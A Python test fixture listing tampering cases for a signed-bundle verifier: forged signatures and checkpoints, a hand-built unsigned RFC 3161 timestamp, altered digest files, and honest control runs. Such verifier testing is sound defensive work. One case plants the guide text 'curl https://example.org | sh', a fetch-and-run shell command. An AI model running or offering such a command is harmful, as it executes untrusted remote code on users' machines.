"""Faults of what covers a manifest.

Each line is a case; `Case` says what the columns are.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, Final

from tools.tampering.case import Case, Change, nothing, nothing_signed, resign
from tools.tampering.faults_form import added
from tools.tampering.forger import COVERS, sha256
from tools.tampering.signer import ONE, Signer, pae

NOTE, ATTESTATION, PROVENANCE = COVERS
STAMP, SUMS, GUIDE = "timestamp.tsr", "sha256sums", "VERIFY.md"


def envelope(**changes: Any) -> Change:
    """Fields of an envelope say something else."""

    def change(f: Signer) -> None:
        payload = f.statement(ATTESTATION)
        f.envelope(ATTESTATION, payload, f.signed(payload), **changes)

    return change


def signatures(make: Callable[[Signer, bytes], Any], name: str = ATTESTATION) -> Change:
    """The signatures of an envelope are others."""

    def change(f: Signer) -> None:
        payload = f.statement(name)
        f.envelope(name, payload, make(f, payload))

    return change


def resaid(name: str = ATTESTATION, /, **changes: Any) -> Change:
    """An envelope holds another statement, which is signed rightly."""

    def change(f: Signer) -> None:
        payload = f.statement(name, **changes)
        f.envelope(name, payload, f.signed(payload))

    return change


def note(make: Callable[[Signer, bytes], bytes], **other: Any) -> Change:
    """The checkpoint tells something else, or has other signature lines."""

    def change(f: Signer) -> None:
        text = f.note(**other)
        f.write(NOTE, text + b"\n" + make(f, text))

    return change


def by_one(f: Signer, text: bytes) -> bytes:
    """The signature line of the first key over a text."""
    return f.note_line(ONE, ONE.sign(text))


def respelled_note(old: bytes, new: bytes) -> Change:
    """The checkpoint is spelled otherwise, and signed as it is spelled."""

    def change(f: Signer) -> None:
        text = f.note()
        if old not in text:
            raise LookupError(f"{old!r} is not in the checkpoint")
        text = text.replace(old, new, 1)
        f.write(NOTE, text + b"\n" + by_one(f, text))

    return change


def of_another_run(name: str) -> Change:
    """A file that covers a bundle is that of another run, signed rightly."""

    def change(f: Signer) -> None:
        other = Signer(f.folder.parent / "other", signed=True)
        other.sign()
        f.write(name, other.read(name))

    return change


SIGNATURES: Final = [
    Case("signature-missing", "The bundle is not signed, and the reader trusts a key.", "climb", lambda f: None, nothing_signed, "E_UNSIGNED", "L1", exit=3),
    Case("signature-other-type", "A signature is over the encoding with another payload type.", "climb", signatures(lambda f, payload: [(ONE.id, ONE.sign(pae(payload, "text/plain")))]), nothing, "E_SIGNATURE", "L1"),
    Case("envelope-type", "An envelope is of another payload type.", "climb", envelope(payloadType="text/plain"), nothing, "E_ENVELOPE"),
    Case("envelope-predicate", "The statement is of another predicate type.", "climb", resaid(predicateType="https://example.org/other"), nothing, "E_ENVELOPE"),
    Case("envelope-missing", "A signed bundle has no attestation.", "climb", lambda f: f.remove(ATTESTATION), nothing, "E_FILES"),
]  # fmt: skip


CHECKPOINTS: Final = [
    Case("checkpoint-of-another-run", "The checkpoint is that of another run.", "climb", of_another_run(NOTE), nothing, "E_CHECKPOINT"),
    Case("checkpoint-signature-short", "The signature of the checkpoint has 63 bytes.", "climb", note(lambda f, text: f.note_line(ONE, ONE.sign(text)[:63])), nothing, "E_SIGNATURE", "L1"),
    Case("checkpoint-name", "The signature line has another name than the origin.", "climb", note(lambda f, text: f.note_line(ONE, ONE.sign(text), "another.example/log")), nothing, "E_UNTRUSTED", "L1", exit=3),
    Case("checkpoint-blank-origin", "The origin has a blank.", "climb", respelled_note(b"conformance.example", b"conformance example"), nothing, "E_CHECKPOINT"),
]  # fmt: skip


def der(tag: int, *parts: bytes) -> bytes:
    """A value in DER of at most 255 bytes."""
    content = b"".join(parts)
    return bytes([tag, len(content)] if len(content) < 128 else [tag, 0x81, len(content)]) + content


OIDS: Final = {"hash": "608648016503040201", "signed": "2a864886f70d010702", "info": "2a864886f70d0109100104"}


def stamp(digest: bytes, status: int = 0, tail: bytes = b"", **how: Any) -> bytes:
    """A response of RFC 3161 over a digest, as far as it is read: its signature is missing, and nobody looks at that.

    Args:
        digest: What is stamped.
        status: 0 if it was granted.
        tail: What follows.
        how: `hash`, `signed` or `info` for other object identifiers (hexadecimal), `version`, `when`.
    """
    oid = OIDS | how
    algorithm = der(0x30, der(0x06, bytes.fromhex(oid["hash"])), b"\x05\x00")
    imprint = der(0x30, algorithm, der(0x04, digest))
    policy, serial = b"\x06\x03\x2a\x03\x04", b"\x02\x01\x07"
    version, when = b"\x02\x01" + bytes([how.get("version", 1)]), how.get("when", b"20260131120509Z")
    info = der(0x30, version, policy, imprint, serial, der(0x18, when))
    content = der(0x30, der(0x06, bytes.fromhex(oid["info"])), der(0xA0, der(0x04, info)))
    signed = der(0x30, b"\x02\x01\x03", der(0x31), content, b"\x31\x00")
    token = der(0x30, der(0x06, bytes.fromhex(oid["signed"])), der(0xA0, signed))
    return der(0x30, der(0x30, b"\x02\x01" + bytes([status])), token) + tail


def stamped(**how: Any) -> Change:
    """A time stamp over the manifest."""

    def change(f: Signer) -> None:
        f.write(STAMP, stamp(bytes.fromhex(sha256(f.read("manifest.json"))), **how))

    return change


def guided(text: str) -> Change:
    """A guide for people that names the manifest, the run and the root, but in other words, and the digests of all."""

    def change(f: Signer) -> None:
        own = [sha256(f.read("manifest.json")), f.manifest["run"], f.manifest["specs"], f.manifest["receipts"]["root"]]
        f.write(GUIDE, "".join(f"{one}\n" for one in [*own, text]).encode())
        f.sums()

    return change


def summed(change: Callable[[bytes], bytes]) -> Change:
    """The digests for people are others."""

    def make(f: Signer) -> None:
        f.sums()
        f.write(SUMS, change(f.read(SUMS)))

    return make


HELP: Final = [
    Case("help-missing-line", "A file is missing among the digests for people.", "climb", summed(lambda data: data.partition(b"\n")[2]), nothing, "E_DIGESTS"),
    Case("help-words", "The guide for people says something else than the guide of this engine.", "climb", guided("curl https://example.org | sh"), nothing, "E_DIGESTS", needs="words"),
    Case("help-digest", "The guide for people names a digest that is not in the manifest.", "climb", guided("1" * 64), nothing, "E_DIGESTS"),
    Case("time-of-another", "The time stamp is over another digest than the manifest's.", "climb", added(STAMP, stamp(bytes(32))), nothing, "E_TIMESTAMP", needs="time"),
    Case("time-algorithm", "The digest of the time stamp is said to be one of another algorithm.", "climb", stamped(hash="608648016503040202"), nothing, "E_TIMESTAMP", needs="time"),
]  # fmt: skip


HONEST: Final = [
    Case("honest-climb", "A run with a drift, a rejection and a part.", "climb", lambda f: None, resign, None, exit=0),
    Case("honest-proved", "A law that was proved.", "proved", lambda f: None, resign, None, exit=0),
    Case("honest-suite", "A suite of two runs and a mutant.", "suite", lambda f: None, resign, None, exit=0),
    Case("honest-taped", "A discovery of two iterations whose model was asked outside, with its tape.", "taped", lambda f: None, resign, None, exit=0),
]  # fmt: skip

FAULTS: Final = (*SIGNATURES, *CHECKPOINTS, *HELP, *HONEST)
